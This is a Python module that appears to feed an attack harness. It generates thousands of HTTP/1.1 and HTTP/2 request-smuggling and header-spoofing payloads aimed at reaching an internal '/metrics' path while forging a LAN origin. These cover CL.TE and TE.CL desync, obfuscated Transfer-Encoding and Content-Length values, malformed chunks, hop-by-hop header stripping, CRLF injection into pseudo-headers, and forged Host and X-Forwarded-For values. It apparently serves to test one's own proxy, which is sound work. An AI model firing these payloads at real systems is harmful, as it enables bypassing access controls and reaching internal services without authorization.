"""Requests with heads and bodies that two readers could understand differently: forged, nominated, doubled, folded, smuggled. Pure.

Each is a try for request_attacker.py. An inner request asks for INNER and says that it came from the LAN, so that one that gets through shows.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

Try = dict[str, Any]
SET = ("X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "Host")
EVIL = "192.168.7.7"
INNER = "/metrics"
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS")
LAN_METHODS = ("SUBSCRIBE", "UNSUBSCRIBE", "NOTIFY")
OTHER_METHODS = (
    "CONNECT", "TRACE", "TRACK", "PROPFIND", "DEBUG", "LOCK", "MKCOL", "MOVE", "COPY", "SEARCH", "PURGE", "BAN", "REPORT", "LINK", "M-SEARCH",
    "QUERY", "PRI", "FOO", "get", "Get", "GETT", "gET", "post", "trace", "connect", "X" * 40, "!", "G.T", "G*",
)  # fmt: skip


class Tries:
    """Tries of one kind, each with its number for a name."""

    def __init__(self, kind: str, domain: str) -> None:
        self.kind, self.domain, self.made = kind, domain, list[Try]()

    @property
    def mark(self) -> str:
        return f"{self.kind}-{len(self.made)}"

    def h1(
        self, fields: str = "", line: str = "GET /x HTTP/1.1", body: str = "", host: str | None = None, **more: Any
    ) -> None:
        """A head with its Host (`host` '': none) and these fields, each ending with CRLF."""
        first = f"Host: {self.domain}\r\n" if host is None else host
        raw = f"{line}\r\n{first}X-Try: {self.mark}\r\n{fields}\r\n{body}"
        self.made.append({"id": self.mark, "raw": raw, **more})

    def h2(self, *fields: tuple[str, str], **changed: Any) -> None:
        """The usual pseudo-fields but for what is changed (None: left out), then these."""
        pseudo = {":method": "GET", ":scheme": "https", ":authority": self.domain, ":path": "/x"}
        pseudo |= {
            ":" + name: value for name, value in changed.items() if name in ("method", "scheme", "authority", "path")
        }
        more = {name: value for name, value in changed.items() if name in ("body", "trailers")}
        listed = [[name, value] for name, value in pseudo.items() if value is not None]
        self.made.append({"id": self.mark, "fields": [*listed, *map(list, fields), ["x-try", self.mark]], **more})


def claims(name: str) -> str:
    """A value that would count if it got through."""
    return {
        "Host": "evil.example",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "http",
        "Forwarded": f"for={EVIL}",
    }.get(name, EVIL)


def headers_h1(names: tuple[str, ...], domain: str) -> list[Try]:
    """Every way to add to a header of ours, to double it or to take it away."""
    made = Tries("header", domain)
    for name in names:
        value = claims(name)
        own = "" if name == "Host" else f"{name}: {value}\r\n"
        for nomination in (
            f"Connection: {name}\r\n", f"Connection: close, {name}\r\n", f"Connection: {name}, close\r\n", f"Connection: keep-alive, {name}\r\n",
            f"Connection: {name.lower()},{name.upper()}\r\n", f"Connection:\t{name}\t\r\n", f"Connection: ,,{name},\r\n", f'Connection: "{name}"\r\n',
            f"Connection: {name};q=1\r\n", f"Connection: keep-alive\r\nConnection: {name}\r\n", f"connection: close\r\nCONNECTION: {name}\r\n",
            f"Proxy-Connection: {name}\r\n", f"Keep-Alive: {name}\r\n", f"Connection: TE, {name}\r\nTE: trailers\r\n",
            f"Connection: Upgrade, {name}\r\nUpgrade: websocket\r\n", f"Connection: Upgrade, {name}, HTTP2-Settings\r\nUpgrade: h2c\r\n",
            f"Connection: Connection, {name}\r\n", f"Connection: {name}\r\n\tclose\r\n",
        ):  # fmt: skip
            made.h1(nomination)
            made.h1(own + nomination)
        websocket = "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        made.h1(f"{websocket}Connection: Upgrade, {name}\r\n{own}", alone=True)
        made.h1(f"{websocket}Connection: keep-alive, Upgrade\r\nConnection: {name}\r\n", alone=True)
        if name != "Host":
            for spelled in (
                name,
                name.lower(),
                name.upper(),
                name.replace("-", "_"),
                name.swapcase(),
                name.replace("-", "_", 1),
            ):
                made.h1(f"{spelled}: {value}\r\n")
                made.h1(f"{spelled}:{value}\r\n{spelled}: {value}\r\n")
            made.h1(f"{name}:\r\n")
            made.h1(f"{name}: {value},{value}\r\n")
        for odd in (
            f"{name} : {value}\r\n", f"{name}\t: {value}\r\n", f" {name}: {value}\r\n", f"X-A: b\r\n {name}: {value}\r\n", f"{name}:\r\n {value}\r\n",
            f"{name}:\r\n\t{value}\r\n", f"X-A: b\r{name}: {value}\r\n", f"X-A: b\n{name}: {value}\r\n", f"X-A: b\x00{name}: {value}\r\n",
            f"X-A\r\n{name}: {value}\r\n", f"{name}\x00: {value}\r\n", f"\x00{name}: {value}\r\n", f"{name}: {value}\x00\r\n",
            f":{name}: {value}\r\n", f"{name}\x0b: {value}\r\n", f"{name}\xa0: {value}\r\n", f"{name}\xad: {value}\r\n", f'"{name}": {value}\r\n',
            f"X-A: b\r\r\n{name}: {value}\r\n", f"X-A: b\x0b{name}: {value}\r\n", f"X-A: b\x85{name}: {value}\r\n",
            f"X-A: b\r\n\x0b{name}: {value}\r\n", f"X-A: b\r\n\x0c{name}: {value}\r\n",
        ):  # fmt: skip
            made.h1(odd)
        chunked = "Transfer-Encoding: chunked\r\n"
        for trailer, said in (
            (f"{name}: {value}", f"Trailer: {name}\r\n"),
            (f"{name}: {value}", ""),
            (f"{name.upper()}:{value}", "TE: trailers\r\n"),
        ):
            made.h1(chunked + said, "POST /x HTTP/1.1", f"3\r\nabc\r\n0\r\n{trailer}\r\n\r\n")
        made.h1(chunked, "POST /x HTTP/1.1", f"3;{name}={value}\r\nabc\r\n0\r\n\r\n")
    return made.made


def headers_h2(names: tuple[str, ...], domain: str) -> list[Try]:
    made = Tries("h2", domain)
    for name in names:
        low, value = name.lower(), claims(name)
        for field in ("connection", "proxy-connection", "keep-alive", "te", "trailer", "upgrade"):
            made.h2((field, low))
            made.h2((field, f"close, {name}"), (low, value))
        if name != "Host":
            for spelled in (low, low.replace("-", "_"), low.replace("-", "_", 1)):
                made.h2((spelled, value))
                made.h2((spelled, value), (spelled, value))
        for odd in (
            name,
            low + " ",
            " " + low,
            low + "\x00",
            "\t" + low,
            low + ":",
            ":" + low,
            low + "\r\nx",
            low + "\xa0",
            "\x0b" + low,
        ):
            made.h2((odd, value))
        for end in ("\r\n", "\n", "\r", "\x00", "\x0b", "\r\n "):
            made.h2(("x-a", f"b{end}{name}: {value}"))
            made.h2(("x-a", f"b{end}{name}: {value}{end}{end}GET {INNER} HTTP/1.1{end}Host: {domain}{end}"))
            made.h2(("x-a" + end + low, value))
        made.h2(body="abc", trailers=[[low, value]], method="POST")
        made.h2(("trailer", low), body="abc", trailers=[[low, value], [low, value]], method="POST")
        made.h2(body="abc", trailers=[[":path", INNER], [low, value]], method="POST")
    return made.made


def pseudo(domain: str) -> list[Try]:
    """HTTP/2: the pseudo-fields, and what HTTP/1.1 keeps in its line and its framing."""
    made = Tries("pseudo", domain)
    smuggled = f"GET {INNER} HTTP/1.1\r\nHost: {domain}\r\n\r\n"
    for path in (
        "x", "", "metrics", "*", "//" + domain + "/x", "http://" + domain + INNER, "/x HTTP/1.1\r\nX-Forwarded-For: " + EVIL, "/x\r\n" + smuggled,
        "/x HTTP/1.1\r\n\r\n" + smuggled, INNER + " HTTP/1.1", "/x " + INNER, "/x\x00", "/x\n", "/x\t" + INNER, "?x", "#" + INNER, "\\metrics", "./metrics",
    ):  # fmt: skip
        made.h2(path=path)
        made.h2((":path", path))
        made.h2(path=path, method="POST", body=smuggled)
    for authority in hosts(domain):
        made.h2(authority=authority)
        made.h2(("host", authority))
        made.h2(("host", domain), authority=authority)
        made.h2(("host", authority), authority=None)
        made.h2((":authority", authority))
        made.h2(("host", domain), ("host", authority))
    made.h2(authority=None)
    for scheme in ("http", "HTTPS", "", "ftp", "https://evil/x", "https:", "http\r\nX-Forwarded-For: " + EVIL, "wss"):
        made.h2(scheme=scheme)
    for method in (
        "GET\r\nX-A: b",
        f"GET {INNER} HTTP/1.1\r\nHost: {domain}\r\n\r\nGET",
        "GET ",
        " GET",
        "G\x00T",
        "G T",
        "",
    ):
        made.h2(method=method)
    for fields in (
        [("transfer-encoding", "chunked")], [("content-length", "0"), ("transfer-encoding", "chunked")], [("content-length", "3")],
        [("content-length", "0")], [("content-length", "5"), ("content-length", "6")], [("content-length", "+6")], [("content-length", "6, 6")],
        [("content-length", "18446744073709551616")], [("content-length", "18446744073709551622")], [("content-length", "-1")],
        [("content-length", "6\r\nTransfer-Encoding: chunked")], [("content-length", "0x6")], [("content-length", "")],
        [("transfer_encoding", "chunked")], [("transfer-encoding", "xchunked")], [("transfer-encoding", "identity")], [("content_length", "0")],
    ):  # fmt: skip
        made.h2(*fields, method="POST", body="0\r\n\r\n" + smuggled)
        made.h2(*fields, method="POST", body="abcdef")
        made.h2(*fields, method="GET", body=smuggled)
        made.h2(*fields)
    for protocol, path in (
        ("websocket", INNER),
        ("websocket", "/a/.." + INNER),
        ("connect-udp", INNER),
        ("x", "/x"),
        ("", INNER),
        ("h2c", INNER),
    ):
        made.h2((":protocol", protocol), method="CONNECT", path=path)
        made.h2((":protocol", protocol), method="GET", path="/x")
    made.h2(method="CONNECT", scheme=None, path=None)
    made.h2(method="CONNECT", scheme=None, path=None, authority="127.0.0.1:8196")
    made.h2((":x", "y"))
    made.h2(("x-a", "b"), (":path", INNER))
    return made.made


def hosts(domain: str) -> tuple[str, ...]:
    """Names of the site that are not its name alone, and names that are not the site's."""
    return (
        f"{domain}:443", f"{domain}:8096", f"{domain}:", f"{domain}:x", f"{domain}:8096@evil", f"{domain}:443@evil.example", f"{domain}@evil", f"evil@{domain}",
        f"evil:x@{domain}", f"{domain}.", f"{domain}..", f".{domain}", domain.upper(), f"{domain}/", f"{domain}/x", f"{domain}?x", f"{domain}#x", f"{domain} ",
        f" {domain}", f"{domain} evil", f"{domain}\tevil", f"{domain},evil", f"{domain}\\evil", f"{domain}%00", f"{domain}\x00evil", f"[{domain}]",
        f"http://{domain}",
        "evil.example", "", "127.0.0.1:8196", "localhost", f"evil.example\r\nHost: {domain}", f"{domain}\r\nX-Forwarded-For: {EVIL}", f"x.{domain}",
        f"{domain}x",
    )  # fmt: skip


def hosts_h1(domain: str) -> list[Try]:
    made = Tries("host", domain)
    for host in hosts(domain):
        made.h1(host=f"Host: {host}\r\n")
        made.h1(host=f"Host: {domain}\r\nHost: {host}\r\n")
        made.h1(host=f"Host: {host}\r\nHost: {domain}\r\n")
        made.h1(f" Host: {host}\r\n")
        made.h1(line=f"GET http://{host}/x HTTP/1.1")
        made.h1(line=f"GET https://{domain}/x HTTP/1.1", host=f"Host: {host}\r\n")
        made.h1(line=f"CONNECT {host} HTTP/1.1", alone=True)
        made.h1(host=f"Host: {host}\r\n", line="GET /x HTTP/1.0")
    made.h1(host="")
    made.h1(host="", line="GET /x HTTP/1.0")
    made.h1(host="Host\r\n")
    made.h1(host=f"Host:{domain}\r\n")
    made.h1(host=f"HOST:\t{domain}\r\n")
    made.h1(host=f"Host : {domain}\r\n")
    return made.made


def methods(domain: str, version: str, target: str, listed: tuple[str, ...], kind: str) -> list[Try]:
    made = Tries(kind, domain)
    for method in listed:
        if version == "1.1":
            made.h1(line=f"{method} {target} HTTP/1.1", alone=True)
        else:
            made.h2(method=method, path=target)
    return made.made


def framing(domain: str) -> list[Try]:
    """Smuggling over HTTP/1.1: heads of two minds about where the body ends, and bodies that end oddly."""
    made = Tries("framing", domain)
    inner = f"GET {INNER} HTTP/1.1\r\nHost: {domain}\r\nX-Forwarded-For: {EVIL}\r\nX-Try: inner\r\n\r\n"
    empty = "0\r\n\r\n"
    length, chunked = "Content-Length: %d\r\n", "Transfer-Encoding: chunked\r\n"

    def post(fields: str, body: str, line: str = "POST /x HTTP/1.1") -> None:
        made.h1(fields, line, body, alone=True)

    for line in ("POST /x HTTP/1.1", "GET /x HTTP/1.1", "POST /x HTTP/1.0"):
        post(length % 6 + chunked, empty + "G" + inner, line)  # CL.TE
        post(length % len(empty + inner) + chunked, empty + inner, line)
        post(chunked + length % 4, f"{len(inner):x}\r\n{inner}\r\n{empty}", line)  # TE.CL
        post(chunked + length % 0, empty + inner, line)
        post(chunked, empty + inner, line)  # two ordinary requests
        post("", inner, line)
        post(length % len(inner), inner, line)
        post(length % 5 + length % len(inner), inner, line)  # CL.CL
        post(length % 0 + length % len(inner), inner, line)
        post(chunked + chunked, empty + inner, line)
    for coding in encodings():
        post(f"Transfer-Encoding: {coding}\r\n", empty + inner)
        post(length % 3 + f"Transfer-Encoding: {coding}\r\n", empty + inner)
        post(f"Transfer-Encoding: {coding}\r\n" + length % len(empty + inner), empty + inner)
        post(chunked + f"Transfer-Encoding: {coding}\r\n", empty + inner)
        post(f"Transfer-Encoding: {coding}\r\n" + chunked, empty + inner)
    for name in ("Transfer-Encoding ", " Transfer-Encoding", "Transfer_Encoding", "Transfer-Encoding\t", "transfer-encoding", "TRANSFER-ENCODING",
    "Transfer-Encoding\x00",
                 "\x0bTransfer-Encoding", "Transfer-Encoding\x0b", "X\r\n Transfer-Encoding", "X: y\rTransfer-Encoding", "X: y\nTransfer-Encoding",
                 "Transfer\x00-Encoding", "Transfer-Encodin\xe7"):  # fmt: skip
        post(f"{name}: chunked\r\n", empty + inner)
        post(length % len(empty + inner) + f"{name}: chunked\r\n", empty + inner)
    for number in ("18446744073709551616", "18446744073709551619", "9223372036854775808", "9223372036854775807", "4294967296", "4294967299", "-1", "-0",
    "+3", "3 ", " 3", "03",
                   "000000000000000000000003", "0x3", "3,3", "3, 3", "3,4", "3;3", "3 3", "3\t", "3\x0b", "3\x00", "", " ", "3.0", "3e0", "a", "1_0",
                   "\xb2", "3\r\n 3", "3\r\n\t", "0x", "٣".encode().decode("latin-1")):  # fmt: skip
        post(f"Content-Length: {number}\r\n", "abc" + inner)
        post(f"Content-Length: 3\r\nContent-Length: {number}\r\n", "abc" + inner)
        post(f"Content-Length: {number}\r\n{chunked}", empty + inner)
    for name in (
        "Content-Length ",
        " Content-Length",
        "Content_Length",
        "Content-Length\x00",
        "X\r\n Content-Length",
        "X: y\nContent-Length",
        "X: y\rContent-Length",
        "content-length",
        "Content-Length\x0b",
    ):
        post(f"{name}: {len(inner)}\r\n", inner)
    size, settings = f"{len(inner):x}", "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
    for first in sizes(size):
        post(chunked, f"{first}\r\n{inner}\r\n{empty}{inner}")
    for body in (
        f"{size}\n{inner}\r\n{empty}{inner}", f"{size}\r{inner}\r\n{empty}", f"{size}\r\n{inner}\n{empty}{inner}", f"{size}\r\n{inner}{empty}{inner}",
        f"{size}\r\n{inner}\r\n0\n\n{inner}",
        f"{size}\r\n{inner}\r\n0\r\r\n{inner}", f"{size}\r\n{inner}\r\n0\r\n\n{inner}", f"{size}\r\n{inner}XX{empty}{inner}",
        f"{size}\r\n{inner}\r\n\r\n{empty}{inner}", f"3;\r\nabc\r\n{empty}{inner}",
        f"3;a\nb\r\nabc\r\n{empty}{inner}", f"3;a=\"b\r\nc\"\r\nabc\r\n{empty}{inner}", f"3;a\rb\r\nabc\r\n{empty}{inner}",
        f"3;\n{size}\r\n{inner}\r\n{empty}", f"3;{'a' * 20000}\r\nabc\r\n{empty}{inner}",
        f"0;a\n\r\n{inner}", f"0\r\nX: y\r\n\r\n{inner}", f"0\r\nX: y\n\r\n{inner}", f"0\r\n X: y\r\n\r\n{inner}", f"0\r\nX\r\n\r\n{inner}",
        f"0\r\n{chunked}\r\n{inner}", f"0\r\n{length % 3}\r\nabc{inner}",
        f"0\r\nHost: evil\r\n\r\n{inner}", f"00\r\n\r\n{inner}", f"0000000000000000000000\r\n\r\n{inner}", f"\r\n{empty}{inner}", f"-1\r\n\r\n{inner}",
        f"0x0\r\n\r\n{inner}", f"0 \r\n\r\n{inner}", f" 0\r\n\r\n{inner}",
        f"g\r\n\r\n{inner}", f"\x000\r\n\r\n{inner}",
    ):  # fmt: skip
        post(chunked, body)
        post(chunked + "Trailer: X\r\n", body)
    told = f"Host: {domain}\r\nX-Try: @"
    for raw in (
        f"GET /x HTTP/1.1\nHost: {domain}\nX-Try: @\n\n{inner}", f"GET /x HTTP/1.1\r\n{told}\n\r\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\n\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\r\n\r\n{inner}", f"GET /x HTTP/1.1\r\r{told}\r\n\r\n{inner}",
        f"\r\n\r\nGET /x HTTP/1.1\r\n{told}\r\n\r\n",
        f"\nGET /x HTTP/1.1\r\n{told}\r\n\r\n", f"GET /x HTTP/1.1\r\n\r\n{told}\r\n\r\n{inner}",
        f"GET /x\r\n{told}\r\n\r\n{inner}",
        f"GET {INNER}\r\n\r\n", f"GET {INNER} \r\n\r\n", f"GET {INNER} HTTP/0.9\r\n{told}\r\n\r\n",
        f"GET /x HTTP/1.2\r\n{told}\r\n\r\n{inner}",
        f"GET /x HTTP/2.0\r\n{told}\r\n\r\n{inner}", f"GET /x http/1.1\r\n{told}\r\n\r\n",
        f"GET /x HTTP/1.1 \r\n{told}\r\n\r\n",
        f"GET /x  HTTP/1.1\r\n{told}\r\n\r\n", f"GET\t/x\tHTTP/1.1\r\n{told}\r\n\r\n",
        f"GET\x0b/x HTTP/1.1\r\n{told}\r\n\r\n",
        f"GET /x {INNER} HTTP/1.1\r\n{told}\r\n\r\n", f"GET /x HTTP/1.1{INNER} HTTP/1.1\r\n{told}\r\n\r\n",
        f"GET /x HTTP/1.1\r\n{told}\r\nExpect: 100-continue\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\nExpect: x\r\n\r\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n{settings}PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n\r\n{inner}",
        f"POST /x HTTP/1.1\r\n{told}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n{inner}", f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}",
        f"HEAD /x HTTP/1.1\r\n{told}\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"OPTIONS * HTTP/1.1\r\n{told}\r\n\r\n{inner}",
        f"DELETE /x HTTP/1.1\r\n{told}\r\n{chunked}\r\n{empty}{inner}",
        f"GET /x HTTP/1.1\r\n{told}\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
    ):  # fmt: skip
        made.made.append({"id": made.mark, "raw": raw.replace("X-Try: @", f"X-Try: {made.mark}"), "alone": True})
    return made.made


def encodings() -> Iterator[str]:
    yield from (
        "chunked", "Chunked", "CHUNKED", " chunked", "chunked ", "\tchunked", "chunked\t", "chunked,", ",chunked", "chunked, ", "xchunked", "chunkedx",
        "chunked;x", "chunked; q=0.5",
        '"chunked"', "'chunked'", "chunked chunked", "chunked, chunked", "identity", "identity, chunked", "chunked, identity", "gzip, chunked",
        "chunked, gzip", "gzip", "", "none", "\x0bchunked",
        "chunked\x0b", "chunked\x00", "\x00chunked", "chunk\x00ed", "\r\n chunked", "x\r\n chunked", "chunked\r\n x", "\xa0chunked", "chunked\x85",
        "chünked", "chun\u212aed".encode().decode("latin-1"), "c\thunked",
    )  # fmt: skip


def sizes(size: str) -> Iterator[str]:
    """Spellings of a chunk's size, most of which are none."""
    yield from (
        size, size.upper(), f"0{size}", f"{'0' * 30}{size}", f"0x{size}", f" {size}", f"{size} ", f"{size}\t", f"\t{size}", f"+{size}", f"-{size}",
        f"{size};", f"{size};a=b", f"{size} ;a=b", f"{size}\x0b", f"{size}\x00",
        f"1{'0' * 16}{size}", f"1{'0' * 8}{size.rjust(8, '0')}", f"{'f' * 16}", f"{'f' * 8}", "7fffffffffffffff", "8000000000000000", f"{size}g",
        f"{size},{size}", f"{size}\r", f"{size}.0", f'"{size}"', f"{size};\x00", f"{size};a\x0bb", "",
    )  # fmt: skip
